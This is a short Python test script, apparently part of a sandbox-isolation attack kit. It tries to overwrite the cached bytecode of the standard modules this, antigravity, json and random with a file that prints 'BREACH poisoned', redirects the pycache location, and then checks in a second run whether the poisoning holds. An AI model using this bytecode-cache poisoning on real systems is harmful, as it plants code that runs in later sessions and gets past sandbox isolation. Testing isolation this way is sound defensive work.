# Compile a changed library into the cache that the next sandbox reads.
import importlib.util
import os
import py_compile

from attack_kit import attempt, held

open("changed.py", "w").write("print('BREACH poisoned')\n")
for module in ("this", "antigravity", "json", "random"):
    cached = importlib.util.cache_from_source(importlib.util.find_spec(module).origin)
    attempt(module, py_compile.compile, "changed.py", cached, doraise=True)
os.environ["PYTHONPYCACHEPREFIX"] = os.getcwd()
held()
# %% after
import this  # noqa: F401

from attack_kit import held

held()
